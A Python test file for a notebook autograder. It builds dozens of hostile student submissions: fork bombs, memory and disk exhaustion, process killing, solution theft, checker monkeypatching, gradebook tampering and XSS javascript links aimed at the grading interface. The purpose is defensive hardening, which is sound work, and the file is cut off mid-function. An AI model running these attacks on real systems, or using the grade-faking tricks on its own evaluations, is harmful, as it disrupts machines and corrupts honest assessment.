"""Submissions that try to cheat, stop or slow down the grader, with the marks that they must get.

Each is the right notebook, or the blank release, of 1_histograms, with something done to it. The attack mostly sits in
the first exercise, `estimate`, worth 4 of 37 points: what is right beside it must keep its own.
"""

from __future__ import annotations

import copy
import json
import re
import socket
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from lecture_lib.exercises import EXERCISES
from tests.conftest import ROOT

ASSIGNMENT, NOTEBOOK = "1_histograms", "histograms"
LISTENING = socket.create_server(("127.0.0.1", 0), backlog=100)  # nobody in the sandbox should reach it
NAMES = ("estimate", "log_prob", "sample", "held_out_nats", "smooth", "debug", "choose", "cell_of", "pixel_bits")
NAMES += ("pair_model",)


def load(folder: str):
    return nbformat.read(ROOT / folder / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)


def exercises_alone(notebook):
    """Setup, answers and checks; the rest is none of the grader's business."""
    notebook = copy.deepcopy(notebook)
    notebook.cells = [
        c for c in notebook.cells if c.cell_type == "code" and (c.id == "setup" or "nbgrader" in c.metadata)
    ]
    for cell in notebook.cells:
        cell.outputs, cell.execution_count = [], None
    return notebook


def handed_in(solution):
    """The solution as a student would hand it in: without the marks around answers and hidden tests."""
    for cell in solution.cells:
        cell.source = re.sub(r"### BEGIN HIDDEN TESTS.*### END HIDDEN TESTS", "", cell.source, flags=re.DOTALL).strip()
        cell.source = re.sub(r"^ *### (BEGIN|END) SOLUTION\n?", "", cell.source, flags=re.MULTILINE).strip()
    return solution


POINTS = [c.metadata.nbgrader.points for c in load("notebooks").cells if c.metadata.get("nbgrader", {}).get("grade")]
ALL, FIRST = sum(POINTS), POINTS[0]
REST = ALL - FIRST
RIGHT, BLANK = handed_in(exercises_alone(load("solutions"))), exercises_alone(load("notebooks"))


@dataclass(frozen=True)
class Attack:
    """files: what lies in the student's folder, by name."""

    files: Callable[[], dict[str, bytes]]
    points: float
    status: str = "graded"
    says: str = ""  # the report's why
    nbgrader: float | None = None  # what plain nbgrader gives; None: not run there, it would harm more than marks


ATTACKS: dict[str, Attack] = {}


def attack(points, status="graded", says="", nbgrader=None):
    def add(build):
        ATTACKS[build.__name__] = Attack(lambda: _files(build()), points, status, says, nbgrader)
        return build

    return add


def _files(made) -> dict[str, bytes]:
    if isinstance(made, nbformat.NotebookNode):
        made = nbformat.writes(made).encode()
    return {f"{NOTEBOOK}.ipynb": made} if isinstance(made, bytes) else made


def answer(notebook, number=0):
    wanted = f"histogram-{NAMES[number]}"
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == wanted)


def check_cells(notebook):
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]


def right_but_first(source):
    """The right notebook, with this in place of the first answer."""
    notebook = copy.deepcopy(RIGHT)
    answer(notebook).source = source
    return notebook


def right_and(source):
    """The right notebook, with this before the first answer, in its cell."""
    notebook = copy.deepcopy(RIGHT)
    answer(notebook).source = f"{source}\n\n\n{answer(notebook).source}"
    return notebook


def blank_but_first(source):
    notebook = copy.deepcopy(BLANK)
    answer(notebook).source = source
    return notebook


RIGHT_ESTIMATE = answer(RIGHT).source


def in_first(body, then="raise ValueError"):
    """The first answer does this when it is called."""
    return f"def estimate(x, edges):\n    import os, sys, torch\n{_indented(body)}\n    {then}\n"


def with_right_first(body):
    """The first answer does this, then gives the right answer."""
    source = RIGHT_ESTIMATE.replace("def estimate", "def right_estimate")
    return f"{source}\n\n{in_first(body, 'return right_estimate(x, edges)')}"


def _indented(body):
    return "\n".join(f"    {line}" for line in body.strip("\n").splitlines())


SOCKET = """
import socket, stat
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode): stream = socket.socket(fileno=os.dup(number)); break
    except OSError: pass
"""


# ---------------------------------------------------------------- never ends


@attack(REST, "timeout", "took longer than", nbgrader=REST)
def infinite_loop():
    return right_but_first(in_first("while True: pass"))


@attack(REST, "timeout", "took longer than")
def infinite_loop_that_catches_everything():
    return right_but_first(
        in_first("""
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except BaseException: pass
while True:
    try:
        while True: pass
    except BaseException: pass
""")
    )


@attack(REST, "timeout", "The cell of estimate took longer than")
def infinite_loop_in_a_cell():
    return right_but_first("while True: pass\n")


@attack(REST, "timeout", "took longer than")
def sleeps():
    return right_but_first(in_first("import time; time.sleep(10_000)"))


@attack(0, "timeout", "as a whole took longer than")
def every_answer_loops():
    notebook = copy.deepcopy(BLANK)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = cell.source.replace("raise NotImplementedError", "while True: pass")
    return notebook


# ---------------------------------------------------------------- takes everything


@attack(REST)
def memory_in_steps_of_1_gib():
    return right_but_first(
        in_first("""
held = []
while True: held.append(bytearray(b"x") * (1 << 30))
""")
    )


@attack(REST, "died", "of memory")
def memory_in_many_processes():
    return right_but_first(
        in_first("""
import time
for _ in range(8):
    if os.fork() == 0:
        held = bytearray(b"x") * (5 << 27)
        time.sleep(1000)
time.sleep(1000)
""")
    )


@attack(REST, "died", "of memory")
def memory_after_the_first_byte_of_a_reply():
    return right_but_first(
        in_first(
            SOCKET
            + """
import time
stream.sendall(bytes(1))
for _ in range(8):
    if os.fork() == 0:
        held = bytearray(b"x") * (5 << 27)
        time.sleep(1000)
time.sleep(1000)
"""
        )
    )


@attack(REST, "died", "of memory")
def memory_while_a_reply_trickles():
    return right_but_first(
        in_first(
            SOCKET
            + """
import struct, time
stream.sendall(struct.pack(">IQ", 1 << 20, 0))
for _ in range(8):
    if os.fork() == 0:
        held = bytearray(b"x") * (5 << 27)
        time.sleep(1000)
while True:
    stream.sendall(b" ")
    time.sleep(0.005)
"""
        )
    )


@attack(REST, "died", "of memory")
def memory_behind_a_main_thread_that_has_ended():
    return right_but_first(
        in_first("""
import ctypes, threading, time
def hold():
    time.sleep(1)
    held = bytearray(b"x") * (5 << 27)
    time.sleep(1000)
for _ in range(8):
    if os.fork() == 0:
        threading.Thread(target=hold).start()
        ctypes.CDLL(None).pthread_exit(None)
time.sleep(1000)
""")
    )


@attack(REST, "died", "of memory")
def memory_that_hops_from_process_to_process():
    return right_but_first(
        in_first("""
for _ in range(8):
    if os.fork() == 0:
        held = bytearray(b"x") * (5 << 27)
        while True:
            if os.fork(): os._exit(0)
while True:
    try: os.wait()
    except OSError: pass
""")
    )


@attack(REST, "timeout", "took longer than")
def work_of_children_of_whom_nobody_wants_to_hear():
    return right_but_first(
        in_first("""
import signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    if os.fork() == 0:
        while time.process_time() < 0.05: pass
        os._exit(0)
    try: os.wait()
    except OSError: pass
""")
    )


@attack(ALL)
def system_calls_without_a_limit():
    """Right, if memory in pipes, locks on parts of a file, and the state of the page cache cannot be had, and if nobody
    can have all of the machine's files written to the disk."""
    body = """
import ctypes, fcntl, platform
fd = os.open("x", os.O_RDWR | os.O_CREAT)
def refused(call):
    try:
        return call() == -1
    except PermissionError:
        return True
calls = [
    lambda: ctypes.CDLL(None).vmsplice(os.pipe()[1], ctypes.byref((ctypes.c_void_p * 2)(id(x), 1)), 1, 0),
    lambda: fcntl.lockf(fd, fcntl.LOCK_EX, 1),
    lambda: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED),
    lambda: os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT),
    lambda: ctypes.CDLL(None).syncfs(fd),
    lambda: ctypes.CDLL(None).syscall({"x86_64": 162, "aarch64": 81}[platform.machine()]),  # sync
]
if not all(refused(call) for call in calls): return x
"""
    return right_but_first(with_right_first(body))


@attack(REST)
def memory_of_the_kernel():
    return right_but_first(
        in_first("""
import socket
held = [socket.socketpair() for _ in range(10_000)]
""")
    )


@attack(REST)
def memory_without_a_file():
    return right_but_first(in_first("[os.memfd_create(str(i)) for i in range(10)]"))


@attack(ALL)
def forks_that_want_to_outlive_it():
    return right_but_first(
        with_right_first("""
import time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True: time.sleep(1)
        os._exit(0)
""")
    )


@attack(REST, "timeout", "took longer than")
def fork_bomb():
    return right_but_first(
        in_first("""
while True:
    try: os.fork()
    except OSError: pass
""")
    )


@attack(ALL)
def thread_bomb():
    return right_but_first(
        with_right_first("""
import threading, time
try:
    while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
except RuntimeError: pass
""")
    )


@attack(ALL)
def fills_the_disk():
    return right_but_first(
        with_right_first("""
if "filled" not in os.environ:
    os.environ["filled"] = "1"
    for folder, _, _ in os.walk("/"):
        if folder.startswith("/proc"): continue
        try:
            with open(folder + "/full", "wb") as file:
                while True: file.write(bytes(1 << 24))
        except OSError: pass
""")
    )


@attack(ALL)
def looks_for_what_ran_before():
    """Right, if processes are counted from 1, nothing in /proc can be written or names the course, and there is one
    disk, which is empty."""
    body = """
if os.readlink("/proc/self") != str(os.getpid()) or os.getpid() > 1: return x
if b"bwrap" in open("/proc/1/cmdline", "rb").read(): return x
if os.stat("/dev/shm").st_dev != os.stat(os.environ["HOME"]).st_dev or os.listdir("/dev/shm"): return x
try: open("/proc/self/oom_score_adj", "w").write("0")
except OSError: pass
if open("/proc/self/oom_score_adj").read() != "1000\\n": return x
"""
    return right_but_first(with_right_first(body))


@attack(ALL)
def a_gigabyte_of_prints():
    return right_but_first(with_right_first("for _ in range(1 << 16): print('x' * (1 << 13))"))


@attack(ALL)
def a_gigabyte_on_standard_output():
    return right_but_first(with_right_first("for _ in range(1 << 10): os.write(1, bytes(1 << 20))"))


@attack(REST)
def a_gigabyte_returned():
    return right_but_first(in_first("", "return torch.zeros(1 << 27, dtype=torch.float64)"))


@attack(REST)
def more_returned_than_was_asked():
    return right_but_first(in_first("", "return torch.zeros(10_000_000)"))


@attack(REST, "died", "no reply of the grader's protocol")
def a_gigabyte_sent_past_the_server():
    return right_but_first(in_first(SOCKET + "stream.sendall((0).to_bytes(4, 'big') + (1 << 30).to_bytes(8, 'big'))"))


# ---------------------------------------------------------------- ends


@attack(REST, "died", "ended the whole process", nbgrader=0)
def os_exit():
    return right_but_first(in_first("os._exit(0)"))


@attack(REST, nbgrader=REST)
def sys_exit():
    return right_but_first(in_first("sys.exit(0)"))


@attack(REST)
def sys_exit_in_a_cell():
    return right_but_first("import sys\nsys.exit(0)")


@attack(REST, "died", "ended the whole process", nbgrader=0)
def segfault():
    return right_but_first(in_first("import ctypes; ctypes.string_at(0)"))


@attack(REST, "died", "ended the whole process")
def kills_itself_in_a_cell():
    return right_but_first("import os\nos.kill(os.getpid(), 9)\nos.abort()")


@attack(REST, "died", "ended the whole process")
def closes_its_channel_and_goes_on():
    return right_but_first(in_first("import time; os.closerange(3, 256); time.sleep(1000)"))


@attack(ALL)
def kills_everybody_else():
    return right_but_first(
        with_right_first("""
for pid in [-1, *range(2, 3000)]:
    try: os.kill(pid, 9)
    except OSError: pass
""")
    )


@attack(ALL)
def signals_the_process_group():
    """Those of a group reach across namespaces, if the fork server is in it."""
    return right_but_first(
        with_right_first("""
import signal
signal.signal(signal.SIGCONT, signal.SIG_IGN)
for number in (signal.SIGURG, signal.SIGCONT): os.kill(0, number)
for call in (lambda: os.setpriority(os.PRIO_PGRP, 0, 19), lambda: os.sched_setaffinity(0, {0, 1})):
    try: call()
    except PermissionError: continue
    raise ValueError("that should be refused")
""")
    )


@attack(REST, "died", "ended the whole process")
def kills_the_process_group():
    return right_but_first(in_first("os.kill(0, 19); os.kill(0, 9); os._exit(1)"))


@attack(REST - 4, "died", "ended the whole process")
def dies_when_its_cell_is_run_again():
    """The first answer ends the process; the second one's cell runs the first time only."""
    notebook = right_but_first(in_first("os._exit(0)"))
    answer(notebook).source += "\nimport time\nbegan = time.monotonic()"
    answer(notebook, 1).source = "import os, time\nif time.monotonic() - began < 100: os._exit(0)"
    return notebook


@attack(REST)
def recursion_without_end():
    return right_but_first(in_first("", "return estimate(x, edges)"))


# ---------------------------------------------------------------- looks for the answers


@attack(0, nbgrader=FIRST)
def reads_the_solution():
    return blank_but_first(
        answer(BLANK).source
        + """

import json, os
for place in (os.environ.get("COURSE", "/"), os.path.abspath("../../../.."), "/"):
    for top, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages")]
        if "histograms.ipynb" in files:
            try: text = open(top + "/histograms.ipynb").read()
            except OSError: continue
            if "BEGIN SOLUTION" in text:
                for cell in json.loads(text)["cells"]:
                    source = "".join(cell["source"])
                    if "def estimate" in source: exec(source, globals())
                raise SystemExit
"""
    )


@attack(0, nbgrader=ALL)
def reads_the_exercises():
    names = {e.name: answer(BLANK, i).source.split("def ")[1].split("(")[0] for i, e in enumerate(_asked())}
    notebook = copy.deepcopy(BLANK)
    for cell, (name, function) in zip(
        [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution")], names.items()
    ):
        cell.source = f"from lecture_lib.exercises import EXERCISES\n{function} = EXERCISES[{name!r}].reference"
    return notebook


def _asked():
    names = [c.metadata.nbgrader.grade_id.replace("-", ".", 1) for c in BLANK.cells if _is_answer(c)]
    return [EXERCISES[name] for name in names]


def _is_answer(cell):
    return bool(cell.metadata.get("nbgrader", {}).get("solution"))


@attack(0, nbgrader=FIRST)
def finds_the_reference_in_memory():
    return blank_but_first(
        """
import gc, sys

def everything():
    yield from gc.get_objects()
    for module in list(sys.modules.values()): yield from list(getattr(module, "__dict__", {}).values())
    frame = sys._getframe()
    while frame: yield from list(frame.f_locals.values()); frame = frame.f_back

def estimate(x, edges):
    for thing in everything():
        for one in thing if type(thing) is list else [thing]:
            if type(one).__name__ == "Exercise" and one.name == "histogram.estimate":
                return one.reference(x, edges)
            if type(one).__name__ == "PreparedExercise":
                for case, expected in zip(one.cases, one.expected):
                    if case.get("x") is not None and case["x"].shape == x.shape and (case["x"] == x).all():
                        return expected
"""
    )


@attack(0, nbgrader=FIRST)
def reads_the_checkers_files():
    return blank_but_first(
        """
import glob, importlib.util, os, lecture_lib
here = os.path.dirname(lecture_lib.__file__)
text = open(here + "/exercises/histograms/estimate.py").read().replace("from __future__ import annotations", "")
space = {"__name__": "stolen"}
exec(text, space)
estimate = space["estimate"]
"""
    )


@attack(0)
def reads_any_copy_of_the_judges():
    """As `pip install .` leaves one among the packages, or a build leaves one beside them."""
    notebook = copy.deepcopy(BLANK)
    find = """
import os, sys
for top, folders, files in os.walk("/"):
    if top == "/": folders[:] = set(folders) - {"proc", "sys"}
    if top.endswith("lecture_lib/exercises") and files:
        for name in [name for name in sys.modules if name.startswith("lecture_lib")]: del sys.modules[name]
        sys.path.insert(0, os.path.dirname(os.path.dirname(top)))
        from lecture_lib.exercises import EXERCISES
        break
"""
    for number, (cell, exercise) in enumerate(zip(filter(_is_answer, notebook.cells), _asked())):
        function = cell.source.split("def ")[1].split("(")[0]
        cell.source = find * (number == 0) + f"{function} = EXERCISES[{exercise.name!r}].reference"
    return notebook


@attack(0)
def reads_the_exchange():
    """nbgrader's, where others have handed in what is right."""
    notebook = copy.deepcopy(BLANK)
    answer(notebook).source = """
import json, os
for folder in ("/usr/local/share", "/usr/share", "/srv", "/var", "/opt", os.path.expanduser("~"), "/"):
    for top, folders, files in os.walk(folder):
        if top == "/": folders[:] = set(folders) - {"proc", "sys"}
        if "histograms.ipynb" in files:
            for cell in json.load(open(top + "/histograms.ipynb"))["cells"]:
                if "nbgrader" in cell["metadata"]: exec("".join(cell["source"]).replace("check(", "str("), globals())
"""
    return notebook


@attack(0)
def reads_other_students():
    return blank_but_first(
        f"""
import os
found = []
for folder in ("/", {str(ROOT)!r}):
    for top, folders, files in os.walk(folder):
        if top.startswith(("/proc", "/sys")): folders.clear()
        found += [name for name in files if name.endswith((".ipynb", ".db"))]

def estimate(x, edges):
    raise ValueError(str(found))
"""
    )


@attack(0)
def leaves_something_for_a_friend():
    return blank_but_first(
        """
import os, socket, ctypes
for folder in ["/tmp", "/dev/shm", "/", "/var/tmp", os.path.expanduser("~"), *[t for t, _, _ in os.walk("/")]]:
    try: open(folder + "/for_a_friend", "w").write("the answer")
    except OSError: pass
"""
    )


@attack(0)
def waits_for_a_friend():
    return blank_but_first(
        RIGHT_ESTIMATE.replace("def estimate", "def right")
        + """

import os
found = False
for top, folders, files in os.walk("/"):
    if top.startswith(("/proc", "/sys")): folders.clear()
    found = found or "for_a_friend" in files

def estimate(x, edges):
    if found: return right(x, edges)
"""
    )


@attack(0, nbgrader=FIRST)
def asks_the_network():
    """Of a server on the grader's own machine: whoever gets as far as to be connected has got out."""
    return blank_but_first(
        RIGHT_ESTIMATE.replace("def estimate", "def right")
        + f"""

import socket
def estimate(x, edges):
    with socket.create_connection(("127.0.0.1", {LISTENING.getsockname()[1]}), timeout=2):
        return right(x, edges)  # or ask somebody for it
"""
    )


# ---------------------------------------------------------------- bends the judge


@attack(0, "died", "no reply of the grader's protocol")
def forges_replies():
    return blank_but_first(
        in_first(
            SOCKET
            + """
import json, struct
text = json.dumps({"problem": "", "outline": "", "error": "", "printed": "", "blank": False, "points": 4,
                   "passed": True, "tensors": [["float64", [4]]]}).encode()
for _ in range(50): stream.sendall(struct.pack(">IQ", len(text), 32) + text + bytes(32))
""",
            "return x",
        )
    )


@attack(0, "died", "no reply of the grader's protocol")
def sends_nonsense():
    return blank_but_first(in_first(SOCKET + "stream.sendall(bytes(range(256)) * 100)", "return x"))


PATCHES = """
import builtins, math, sys
import numpy, torch
from lecture_lib import exercises
yes = lambda *a, **k: torch.ones(1, dtype=torch.bool)
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("lecture_lib.exercises"):
        for name in ("close", "_same", "_alike", "judge", "prepare"):
            if hasattr(module, name): setattr(module, name, yes)
torch.isclose = torch.equal = torch.allclose = torch.testing.assert_close = yes
numpy.isclose = numpy.allclose = numpy.array_equal = numpy.testing.assert_allclose = yes
torch.Tensor.__eq__ = torch.Tensor.all = torch.Tensor.isnan = yes
builtins.all = builtins.isinstance = lambda *a: True
class Full(str):
    def __repr__(self): return "4.0"
    def _repr_html_(self): return "4 of 4 points"
check = exercises.check = lambda *a, **k: Full()
"""


@attack(0, nbgrader=ALL)
def patches_the_checker():
    """In nbgrader the notebook's own `check` is what gives the points."""
    return blank_but_first(
        """
from lecture_lib import exercises
class Full:
    def __init__(self, points): self.points = points
    def __repr__(self): return str(self.points)
check = exercises.check = lambda name, *a, **k: Full({"histogram.estimate": 4, "histogram.log_prob": 4,
    "histogram.sample": 4, "histogram.held_out_nats": 3, "histogram.smooth": 3, "histogram.cell_of": 4,
    "histogram.pixel_bits": 4}[name])
"""
        + answer(BLANK).source
    )


@attack(0, "died", "ended the whole process")
def patches_everything():
    """Nothing works any more in the student's own process."""
    return blank_but_first(PATCHES + "\ndef estimate(x, edges): return torch.zeros(len(edges) - 1)")


@attack(0, nbgrader=FIRST)
def patches_the_engine():
    return blank_but_first(
        """
import sys, torch
engine = sys.modules.get("lecture_lib.exercises.engine")
if engine: engine._same = lambda exercise, value, expected: torch.ones_like(expected, dtype=torch.bool)
def estimate(x, edges): return torch.ones(len(edges) - 1)
"""
    )


@attack(0, nbgrader=ALL)
def input_transformer_that_rewrites_later_cells():
    return blank_but_first(
        """
full = {"estimate": 4, "log_prob": 4, "sample": 4, "held_out_nats": 3, "smooth": 3, "cell_of": 4, "pixel_bits": 4}
def rewrite(lines):
    text = "".join(lines)
    for name, points in full.items():
        if text.startswith("check(") and name + '"' in text: return [f"{points}\\n"]
    return lines
get_ipython().input_transformers_post.append(rewrite)
"""
        + answer(BLANK).source
    )


@attack(0, nbgrader=ALL)
def a_display_hook_that_says_full_marks():
    return blank_but_first(
        """
from lecture_lib.exercises import check
formatter = get_ipython().display_formatter.formatters["text/plain"]
formatter.for_type(object, lambda thing, p, cycle: p.text("4"))
formatter.for_type_by_name("lecture_lib.exercises.report", "Report", lambda thing, p, cycle: p.text(str(thing.out_of)))
"""
        + answer(BLANK).source
    )


@attack(0)
def import_hooks_and_atexit():
    return blank_but_first(
        """
import atexit, builtins, os, sys
atexit.register(lambda: open("/tmp/left", "w").write("x"))
real = builtins.__import__
def hooked(name, *a, **k):
    module = real(name, *a, **k)
    if "exercises" in name: module.check = lambda *a, **k: 4
    return module
builtins.__import__ = hooked
class Finder:
    def find_spec(self, *a): return None
sys.meta_path.insert(0, Finder())
"""
        + answer(BLANK).source
    )


@attack(REST)
def lies_about_shape_and_equality():
    return right_but_first(
        """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), keywords=None):
        name = getattr(function, "__name__", "")
        if name in ("__eq__", "isclose", "equal", "allclose"): return torch.ones(3, dtype=torch.bool)
        return super().__torch_function__(function, types, arguments, keywords or {})
    shape = property(lambda self: torch.Size([10**6]))
    def __eq__(self, other): return True
    def __len__(self): return 10**9
def estimate(x, edges): return torch.zeros(len(edges) - 1).as_subclass(Liar)
"""
    )


@attack(REST)
def an_object_that_claims_to_be_right():
    return right_but_first(
        """
class Right:
    def __eq__(self, other): return True
    __array__ = __len__ = __getitem__ = __float__ = lambda self, *a, **k: self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
def estimate(x, edges): return Right()
"""
    )


@attack(0, nbgrader=6_993)
def writes_the_gradebook():
    return blank_but_first(
        """
import os, sqlite3
places = ["../../../gradebook.db", os.path.join(os.environ.get("COURSE", ""), "grading", "gradebook.db")]
for path in places:
    if os.path.exists(path):
        book = sqlite3.connect(path, timeout=20)
        book.execute("update grade set manual_score = 999")
        book.commit(); book.close()
"""
        + answer(BLANK).source
    )


# ---------------------------------------------------------------- bends the notebook


@attack(ALL, nbgrader=ALL)
def deleted_test_cells():
    notebook = copy.deepcopy(RIGHT)
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return notebook


@attack(ALL)
def duplicated_test_cells():
    notebook = copy.deepcopy(RIGHT)
    for cell in check_cells(notebook):
        twin = copy.deepcopy(cell)
        twin.id = f"{cell.id}-2"
        notebook.cells.append(twin)
    return notebook


@attack(ALL, says="In several cells: histogram.estimate (2)")
def a_duplicated_answer_cell():
    """A blank copy above the answer, with all its metadata, as copying a cell in JupyterLab makes it."""
    notebook = copy.deepcopy(RIGHT)
    place = notebook.cells.index(answer(notebook))
    twin = copy.deepcopy(answer(BLANK))
    twin.id = "a-copy"
    notebook.cells.insert(place, twin)
    return notebook


@attack(ALL, says="Found without a grade id")
def renamed_cells():
    notebook = copy.deepcopy(RIGHT)
    for number, cell in enumerate(notebook.cells):
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id = f"mine-{number}"
            cell.id = f"mine-{number}"
    return notebook


@attack(ALL)
def reflagged_cells():
    notebook = copy.deepcopy(RIGHT)
    for cell in check_cells(notebook):
        cell.metadata.nbgrader.update(grade=False, solution=True, locked=False)
    return notebook


@attack(0)
def tests_that_say_full_marks():
    notebook = copy.deepcopy(BLANK)
    for cell in check_cells(notebook):
        cell.source = "4"
        cell.metadata.nbgrader.update(points=999)
    return notebook


@attack(0)
def answers_that_claim_to_be_graded():
    notebook = copy.deepcopy(BLANK)
    for cell in notebook.cells:
        if _is_answer(cell):
            cell.metadata.nbgrader.update(grade=True, points=999)
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "999"}, execution_count=1)]
    return notebook


@attack(0, "invalid", "no notebook that can be read")
def truncated():
    return nbformat.writes(RIGHT).encode()[:5000]


@attack(0, "invalid", "no notebook that can be read")
def not_a_notebook():
    return b"[[[[" * 100_000


@attack(0, "invalid", "no notebook that can be read")
def numbers_in_place_of_cells():
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": 7}).encode()


@attack(0)
def odd_cells():
    odd = [None, 3, [], {}, {"cell_type": 5, "source": {"a": 1}, "metadata": [], "id": 7}]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": odd}).encode()


@attack(0, "invalid", "not UTF-8")
def latin_1():
    return nbformat.writes(RIGHT).replace("The", "Thé").encode("latin-1")


@attack(ALL)
def a_byte_order_mark():
    return b"\xef\xbb\xbf" + nbformat.writes(RIGHT).encode()


@attack(ALL)
def nbformat_3():
    old = nbformat.convert(copy.deepcopy(RIGHT), 3)
    return json.dumps(old).encode()


@attack(ALL)
def wrong_kernelspec():
    notebook = copy.deepcopy(RIGHT)
    notebook.metadata.kernelspec = {"name": "../../julia", "display_name": "x", "language": "R"}
    return notebook


@attack(0, "invalid", "no notebook")
def no_notebook():
    return {"essay.pdf": b"%PDF"}


@attack(ALL, says="not notes.ipynb")
def two_notebooks():
    return {f"{NOTEBOOK}.ipynb": nbformat.writes(RIGHT).encode(), "notes.ipynb": b"{}"}


@attack(0, "invalid", "2 notebooks")
def two_notebooks_of_other_names():
    return {"one.ipynb": nbformat.writes(RIGHT).encode(), "two.ipynb": nbformat.writes(RIGHT).encode()}


@attack(0, "invalid", "larger than")
def a_huge_notebook():
    return b" " * (101 << 20)


@attack(ALL)
def half_a_character():
    """JSON can hold what UTF-8 cannot."""
    notebook = right_and('s = "lecture_lib.half"')
    notebook.cells.insert(1, nbformat.v4.new_code_cell("# half", id="odd"))
    return nbformat.writes(notebook).replace("half", "\\ud800").encode()


@attack(ALL)
def odd_cell_ids():
    notebook = copy.deepcopy(RIGHT)
    notebook.nbformat_minor = 5
    for cell, name in zip(notebook.cells, ("é", "a.b", "#VSC-1", "", "x" * 65, 5, None)):
        cell["id"] = name
    return json.dumps(notebook).encode()


@attack(ALL)
def an_old_notebook_with_many_outputs():
    old = nbformat.convert(copy.deepcopy(RIGHT), 3)
    cell = next(c for c in old["worksheets"][0]["cells"] if c["cell_type"] == "code")
    cell["outputs"] = [{"output_type": "pyout"}] * 60_000
    return json.dumps(old).encode()


@attack(ALL)
def a_name_of_combining_marks():
    """Python's time to read one is quadratic in its length."""
    notebook = copy.deepcopy(RIGHT)
    answer(notebook, 4).source = "def smooth(counts, alpha): return share(counts + alpha)"
    for source in ("def share(counts): return counts / counts.sum()", "a" + "\u0300\u0323" * 49_000):
        notebook.cells.insert(1, nbformat.v4.new_code_cell(source))
    return notebook


@attack(REST)
def rows_without_numbers():
    return right_but_first(in_first("", "return torch.zeros(4_000_000, 0)"))


@attack(REST, "died", "ended the whole process")
def a_thousand_cells_to_run_again():
    spend = "began = time.process_time()\nwhile time.process_time() < began + 0.006: pass"
    notebook = right_but_first(f"import time, os\n{spend}")
    first = answer(notebook)
    for number in range(1_200):
        notebook.cells.append(copy.deepcopy(first) | {"id": f"again-{number}"})
    notebook.cells.append(copy.deepcopy(first) | {"source": "def estimate(x, edges): os._exit(0)", "id": "last"})
    return nbformat.from_dict(notebook)


@attack(REST)
def half_a_character_in_an_error():
    return right_but_first(in_first("", 'raise ValueError("\\ud800")'))


@attack(ALL)
def a_heading_of_a_billion_levels():
    old = nbformat.convert(copy.deepcopy(RIGHT), 3)
    heading = {"cell_type": "heading", "level": 10**9, "metadata": {}, "source": "x"}
    old["worksheets"][0]["cells"].insert(0, heading)
    return json.dumps(old).encode()


@attack(0, "invalid", "more than")
def a_cell_of_a_megabyte():
    return right_and("x = [" + "lecture_lib, " * 80_000 + "]")


@attack(ALL)
def thousands_of_definitions_and_imports():
    """Reading them takes time in the judge, where nothing limits it."""
    return right_and("def x(): 0\n" * 4_000 + "if 0: from lecture_lib import data\n" * 1_300)


@attack(ALL)
def thousands_of_magics():
    notebook = copy.deepcopy(RIGHT)
    for number in range(12):
        notebook.cells.append(nbformat.v4.new_code_cell("".join(f"!{number}{i}\n" for i in range(900))))
    return notebook


@attack(ALL)
def a_thousand_names_of_the_library():
    return right_and("s = [" + '"lecture_lib", ' * 5_000 + "]")


@attack(0, "invalid", "more than")
def too_many_cells():
    notebook = copy.deepcopy(RIGHT)
    notebook.cells += [nbformat.v4.new_code_cell("1") for _ in range(3_000)]
    return notebook


@attack(ALL)
def scripts_in_markdown():
    notebook = copy.deepcopy(RIGHT)
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell("<script>alert('md')</script><img src=x onerror=alert(1)>"))
    links = "[x](javascript:alert(1)) [y](java&#115;cript&colon;alert(1)) $\\href{javascript: alert(1)}{z}$"
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(links))
    return notebook


@attack(0)
def a_link_that_gives_marks():
    """One click of the teacher, in the formgrader; what its page shows is in test_grading_markdown.py."""
    notebook = copy.deepcopy(BLANK)
    steal = "fetch('/formgrader/api/grades').then(r=>r.json()).then(all=>all.forEach(one=>fetch(one.id)))"
    links = f"[figure](javascript&colon;{steal}) [table](javascript&amp;colon;{steal})"
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(links))
    return notebook


@attack(ALL)
def an_impossible_timestamp():
    stamp = b"0001-01-01 00:00:00 +2300"
    return {f"{NOTEBOOK}.ipynb": nbformat.writes(RIGHT).encode(), "timestamp.txt": stamp}


@attack(ALL)
def a_timestamp_of_many_digits():
    """dateutil raises decimal's own error, which is no ValueError."""
    stamp = ("12:02222222222222" + "\u0663" * 10 + "0" + "\u0663" * 24 + "222222222222222GMT+T").encode()
    return {f"{NOTEBOOK}.ipynb": nbformat.writes(RIGHT).encode(), "timestamp.txt": stamp}


# ---------------------------------------------------------------- honest, and odd


@attack(ALL, nbgrader=ALL)
def right():
    return copy.deepcopy(RIGHT)


@attack(0, nbgrader=0)
def blank():
    return copy.deepcopy(BLANK)


@attack(REST)
def asks_for_input():
    return right_but_first(in_first("input('your answer: ')"))


@attack(ALL, nbgrader=REST)
def warns_on_standard_error():
    """A right answer. In nbgrader anything on standard error of the check's cell costs its points."""
    body = "import warnings; warnings.warn('careful'); print('careful', file=errors, flush=True); os.write(2, b'!')"
